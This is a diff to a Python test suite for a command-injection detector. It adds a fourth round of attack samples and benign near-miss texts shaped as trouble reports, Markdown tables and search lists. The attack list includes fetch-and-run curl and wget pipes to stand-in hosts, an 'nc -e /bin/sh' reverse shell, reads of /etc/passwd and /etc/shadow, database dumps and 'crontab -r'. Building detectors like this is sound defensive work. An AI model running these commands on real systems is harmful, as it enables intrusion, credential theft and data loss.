@@ -770,11 +770,117 @@ def test_round3_sets_are_distinct():
     assert not set(ROUND3_BENIGN) & set(BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN)
 
 
+# Round 4 (issue #4, the rce false positives of wild_benign's LATE_BATCH_2): three shapes of benign text that read like
+# a command line to a tokenizer — a sentence or trouble report that begins with a tool's name, a Markdown document
+# (headings, lists, `|---|` tables) around code spans, a `|`-joined list of recent searches — each beside attacks of the
+# same shape. Written before the round-4 changes to rce.py; the code of that moment caught 49/49 and flagged 19/45.
+ROUND4_ATTACKS: list[tuple[str, str]] = [
+    # a tool's name followed by words: a sentence or a trouble report about it, unless options, paths or separators
+    ("query", "mysqldump -u root -psecret shop customers"), ("form", "mysqldump shop users > /var/www/html/u.txt"),
+    ("json", "x; mysqldump -u root --all-databases | gzip > /tmp/d.gz"), ("cookie", "x|mysqldump --all-databases"),
+    ("form", "Puppet agent run --test --server evil.example every time."), ("form", "Ansible all -m shell -a id"),
+    ("json", "| ansible all -m shell -a 'curl 198.51.100.7/x|sh'"), ("query", "ansible localhost -m raw -a whoami"),
+    ("form", "Terraform apply fails every time; curl http://198.51.100.7/x.sh | sh"),
+    ("form", "Rsync fails every time even though nothing changed.\nid"),
+    ("form", "Python fails every time so we run $(curl evil.example/p.sh) first."),
+    ("query", "mysqldump backup failed access denied`id`"), ("custom", "Nmap scans fail for the office hosts;nc -e /bin/sh 10.0.0.9 4444"),
+    ("form", "Nc 10.0.0.9 4444 connects every time even though the port is closed."),
+    ("xml", "Docker run fails for the web container && cat /etc/passwd"), ("multipart", "htpasswd -b /etc/nginx/.htpasswd eve pw"),
+    ("form", "Kubectl get secrets -A shows every token, even the old ones."),
+    ("query", "crontab failed; crontab -r"), ("cookie", "rsync timeout error|nc 10.0.0.9 4444"),
+    # Markdown documents hiding a command after a newline, or code spans that hold a whole attack
+    ("form", "## Setup\n\n1. Copy `.env.example` to `.env`\n2. Fill in `DATABASE_URL`\n; curl http://198.51.100.7/x.sh | sh"),
+    ("form", "## Notes\n\nRun the app.\nid"), ("form", "# Install\n\n1. Run `make`\n2. Done\n`id`"),
+    ("form", "`id`"), ("json", "`cat /etc/passwd`"), ("form", "## Setup\n$(curl -s evil.example/i.sh | bash)"),
+    ("form", "1. Copy the file\n2. Run it\n&& wget http://198.51.100.7/a -O /tmp/a"),
+    ("form", "| Function | Result |\n|---|---|\n| x; id | 7 |"), ("form", "| Name | Value |\n|---|---|\n| $(whoami) | 1 |"),
+    ("form", "|---|---|\n| a | b |\n|id"), ("form", "| a | b |\n|---|---|\n| c | d |\nid"),
+    ("form", "| Step | Command |\n|---|---|\n| 1 | x && cat /etc/shadow |"),
+    ("form", "Name | Role\n--- | ---\nid; uname -a | admin"), ("query", "|---| ; id"),
+    ("form", "| `id` |\n`whoami`"), ("form", "| a |\n| `id` |"),
+    # `|`-joined lists whose items are command lines or probes
+    ("cookie", "winget|whoami|vpn disconnects"), ("cookie", "printer|sh|vpn drops"),
+    ("cookie", "vpn|nc 10.0.0.5 4444|wifi"), ("query", "x|mysqldump --all-databases|y"),
+    ("cookie", "winget|bash|vpn drops"), ("query", "a|id"), ("form", ";ls -la"), ("cookie", "outlook|uname -a|wifi"),
+    ("cookie", "mysqldump|id|vpn disconnects"), ("json", "winget|mysqldump|cat /etc/passwd"),
+    ("cookie", "printer offline|python -c 'import os'|wifi drops"), ("cookie", "htpasswd|xargs|printer offline"),
+    ("query", "mysqldump|crontab|backup failed"), ("cookie", "vpn drops|mysqldump|$(id)"),
+]
+ROUND4_BENIGN: list[tuple[str, str]] = [
+    # trouble reports and sentences that begin with a tool's name
+    ("query", "pg_dump restore failed permission denied"), ("query", "mysqldump error 1045 access denied"),
+    ("query", "rsync connection refused port 22"), ("query", "htpasswd authentication failed nginx"),
+    ("query", "openssl handshake failure"), ("query", "mysqldump hangs on large table"),
+    ("query", "kubectl timeout waiting for condition"), ("query", "crontab job not running"),
+    ("query", "tcpdump permission denied"), ("query", "htpasswd file missing"), ("query", "svnadmin dump slow"),
+    ("form", "Terraform apply keeps failing on the state lock, even though nobody else is running it."),
+    ("form", "Kubectl logs shows nothing for the crashed pod after every restart."),
+    ("form", "Docker build fails at 'npm ci' on the ARM runners only."),
+    ("form", "Rsync copies every file again each night, although nothing has changed."),
+    ("form", "Mysqldump takes hours on the production replica but only minutes on staging."),
+    ("json", "Curl returns 403 for our own API when the VPN is on."),
+    ("form", "Nmap shows port 443 as filtered on the office network but open at home!"),
+    ("form", "Crontab entries vanish after every reboot, why?"),
+    ("form", "Htop shows 100% CPU on one core while the app is idle."),
+    ("form", "Puppet agent reports the same 3 resources as changed on every single run."),
+    ("json", "Ansible playbook skips the 'Install packages' task for the Ubuntu hosts."),
+    ("form", "Tcpdump captures nothing on the bridge interface even though traffic flows."),
+    ("form", "Gpg asks for the passphrase every time although the agent is running."),
+    # Markdown documents: headings, numbered and bulleted lists, quotes and tables around code spans
+    ("form", "# Install\n\n1. Clone the repository\n2. Run `make build` in the root\n3. Open the dashboard in a browser"),
+    ("form", "### Usage\n\n- Start the worker with `celery -A app worker`\n- Stop it with `Ctrl+C` when you are done"),
+    ("form", "## Troubleshooting\n\n* If `docker ps` shows nothing, restart Docker Desktop\n* Check the file `config.json` for typos"),
+    ("form", "> **Note:** run `git pull` before you `git push` to the main branch"),
+    ("form", "## Deploy\n\n1. Bump the version in `package.json`\n2. Tag the release with `git tag v1.2.0`\n3. Push the tag"),
+    ("form", "| Command | What it does |\n|---|---|\n| `ls -la` | list all files |\n| `pwd` | print the directory |"),
+    ("form", "| Shortcut | Action |\n| :--- | ---: |\n| Ctrl + C | copy |\n| Ctrl + V | paste |"),
+    ("form", "| Plan | Price | Seats |\n|------|-------|-------|\n| Free | $0 | 1 |\n| Pro | $12 | 5 |"),
+    ("form", "| Function | Result |\n|---|---|\n| `abs(-4)` | 4 |\n| `round(2.5)` | 2 |"),
+    ("form", "| Setting | Default |\n|---|---|\n| `timeout` | 30 |\n| `retries` | 3 |"),
+    ("form", "| Field | Type |\n|:--|:--|\n| id | integer |\n| who | text |\n| date | timestamp |"),
+    ("form", "Compare the plans:\n\n| Tier | Storage |\n|---|---|\n| Basic | 10 GB |\n| Team | 1 TB |"),
+    ("json", "| Key | Meaning |\n|---|---|\n| `Ctrl+Z` | undo |\n| `Ctrl+Y` | redo |"),
+    # `|`-joined lists of recent searches and tags, some of them a tool's name
+    ("cookie", "htpasswd|printer offline|outlook keeps crashing"),
+    ("cookie", "rsync|password reset|wifi drops"), ("query", "tcpdump|wireshark|packet loss on vpn"),
+    ("cookie", "nmap|port scan policy|firewall rules"), ("form", "svnadmin|git lfs|large files"),
+    ("cookie", "cron schedule|htpasswd|disk full"), ("cookie", "mysqldump|backups|disaster recovery"),
+    ("cookie", "pg_dump|mysqldump|restore takes hours"),
+]
+
+
+def test_round4_sets_are_distinct():
+    assert len(set(ROUND4_ATTACKS)) == len(ROUND4_ATTACKS) >= 45
+    assert len(set(ROUND4_BENIGN)) == len(ROUND4_BENIGN) >= 40
+    assert not set(ROUND4_BENIGN) & set(BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN)
+
+
+def test_markdown_tables_become_cells_out_of_command_position():
+    t = rce._md_tables("intro\n| Name | Cmd |\n|:--|--:|\n| a | `id` |\n| b \\| c | x; id |\nid")
+    assert t.split("\n")[0] == "intro" and t.split("\n")[-1] == "id"  # lines around the table stay
+    assert [ln for ln in t.split("\n")[1:-1]] == [rce._TABLE_MARK + c for c in ("Name", "Cmd", "a", "`id`", "b \\| c", "x; id")]
+    # no delimiter row, a header without both pipes, or a column count that differs: no table
+    for v in ("| a | b |\n| c | d |", "a | b\n|---|---|", "| a | b |\n|---|", "|---|---|\n| a | b |"):
+        assert rce._md_tables(v) == v
+
+
+@pytest.mark.parametrize("value,want", [
+    ("Puppet agent run reports 12 changes every time even though nothing changed.", True),
+    ("Docker build fails at 'npm ci' on the ARM runners only.", True),
+    ("puppet agent run reports 12 changes every time even though nothing changed.", False),  # no capital
+    ("Puppet agent run reports 12 changes every time even though nothing changed", False),  # no full stop
+    ("Ansible all -m shell -a id for the hosts.", False), ("Curl http://e.example/x for every host.", False),
+    ("Python3 manage.py runserver for the app every time.", False), ("Nmap scans hosts fast.", False),
+])
+def test_sentence_shape(value, want):
+    assert rce._sentence(value) is want
+
+
 # Each list above is one batch of the round it came from (first-pass numbers were taken per batch; round 3 used CRS
 # 4.25's 932 file as the checklist); every attack must raise an rce finding and every near-miss must leave the whole
 # request clean.
-ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS + ROUND3_ATTACKS
-ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN
+ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS + ROUND3_ATTACKS + ROUND4_ATTACKS
+ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN + ROUND4_BENIGN
 
 
 @pytest.mark.parametrize("row", ALL_ATTACKS, ids=_label)
